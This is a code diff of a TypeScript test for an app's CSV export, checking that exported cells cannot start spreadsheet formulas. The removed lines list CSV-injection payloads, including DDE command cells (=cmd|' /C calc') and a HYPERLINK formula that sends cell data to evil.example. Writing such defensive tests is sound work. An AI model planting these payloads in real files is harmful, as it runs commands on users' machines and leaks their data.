@@ -6,7 +6,8 @@
  *  - csv-parse as an RFC 4180 reader (a record it cannot read with that separator is skipped, as a
  *    strict reader refuses it);
  *  - the way LibreOffice Calc's import splits text (test/security/calcCsvReader.ts): quotes honoured,
- *    but a quoted field ends only at a quote followed by the separator.
+ *    but a quoted field ends only at a quote followed by the separator
+ *    (test/security/hostileCsv.ts has both).
  * With the file's own separator, csv-parse reads back exactly the neutralised cells.
  */
 import { closeSync, mkdtempSync, openSync, readFileSync, rmSync } from 'node:fs';
@@ -20,59 +21,13 @@ import { openCache } from '../../electron/main/cache/db.ts';
 import { runSync } from '../../electron/main/sync/engine.ts';
 import { createHttpPageSource } from '../../electron/main/sync/httpSource.ts';
 import { SAMPLE_ACCESS_TOKEN, SAMPLE_REFRESH_TOKEN, startSampleApi, type SampleApi } from '../../electron/main/sampleApi/server.ts';
-import { CSV_DELIMITERS, CsvFileWriter, needsNeutralizing, type CsvValue } from '../../electron/main/export/csv.ts';
+import { CSV_DELIMITERS, CsvFileWriter, neutralizeFormula, type CsvValue } from '../../electron/main/export/csv.ts';
 import { runExport } from '../../electron/main/export/run.ts';
 import { readLikeCalc } from '../security/calcCsvReader.ts';
+import { formulaCells, HOSTILE_CELLS } from '../security/hostileCsv.ts';
 
-const SEPARATORS = [',', ';', '\t'] as const;
 const DELIMITERS = ['comma', 'semicolon', 'tab'] as const;
-
-/** Cells an attacker would put into a contact or an order to run something in a spreadsheet. */
-const HOSTILE = [
-  `Acme;=cmd|' /C calc'!A0`,
-  `Acme,=cmd|' /C calc'!A0`,
-  `Acme\t=cmd|' /C calc'!A0`,
-  `Acme; =HYPERLINK("http://evil.example/?"&A1;"x")`,
-  '\t=1+1',
-  '\r=1+1',
-  '=x\t=1+1',
-  '   =1+1',
-  ' \u00a0\u3000+1+1',
-  '\u00a0\t-1+1',
-  '＝1+1',
-  '＋cmd|\' /C calc\'!A0',
-  '－1+1',
-  '＠SUM(A1)',
-  `";=cmd|' /C calc'!A0;`,
-  `";=cmd|' /C calc'!A0,`,
-  `  ;=cmd|' /C calc'!A0;`,
-  `,=cmd|' /C calc'!A0,`,
-  `\t;=1+1;`,
-  `x"";=1+1;`,
-  `"`,
-  `""`,
-  `a"\r\n=1+1`,
-  'first\r\n=1+1;=2+2',
-  `=HYPERLINK("http://evil.example/?"&A1,"x")`,
-  '\0=1+1',
-];
-
-/** True when a spreadsheet would take `cell` as a formula (numbers are numbers). */
-function startsFormula(cell: string): boolean {
-  if (/^\s*[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?\s*$/.test(cell)) return false;
-  return /^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u.test(cell) || /^[\t\r\0]/.test(cell);
-}
-
-/** Every cell of every reading of `text` (csv-parse and Calc's way, each separator) that starts a formula. */
-function formulaCells(text: string, bom: boolean): string[] {
-  const found: string[] = [];
-  for (const sep of SEPARATORS) {
-    const strict = parse(text, { delimiter: sep, bom, record_delimiter: ['\r\n', '\n', '\r'], relax_column_count: true, skip_records_with_error: true }) as string[][];
-    for (const record of strict) for (const cell of record) if (startsFormula(cell)) found.push(`csv-parse ${JSON.stringify(sep)}: ${JSON.stringify(cell)}`);
-    for (const record of readLikeCalc(text, sep)) for (const cell of record) if (startsFormula(cell)) found.push(`calc ${JSON.stringify(sep)}: ${JSON.stringify(cell)}`);
-  }
-  return found;
-}
+const HOSTILE = HOSTILE_CELLS;
 
 let dir: string;
 let db: Database.Database;
@@ -133,8 +88,8 @@ describe('no cell of any reading of an export starts a formula', () => {
           const byId = new Map(own.map((r) => [r[0], r]));
           HOSTILE.forEach((payload, i) => {
             const row = byId.get(hostileContacts[i]);
-            expect(row?.[1], JSON.stringify(payload)).toBe(needsNeutralizing(payload) ? `'${payload}` : payload);
-            expect(row?.[7], JSON.stringify(payload)).toBe(`Springfield${payload}`);
+            expect(row?.[1], JSON.stringify(payload)).toBe(neutralizeFormula(payload));
+            expect(row?.[7], JSON.stringify(payload)).toBe(neutralizeFormula(`Springfield${payload}`));
           });
         }
       });
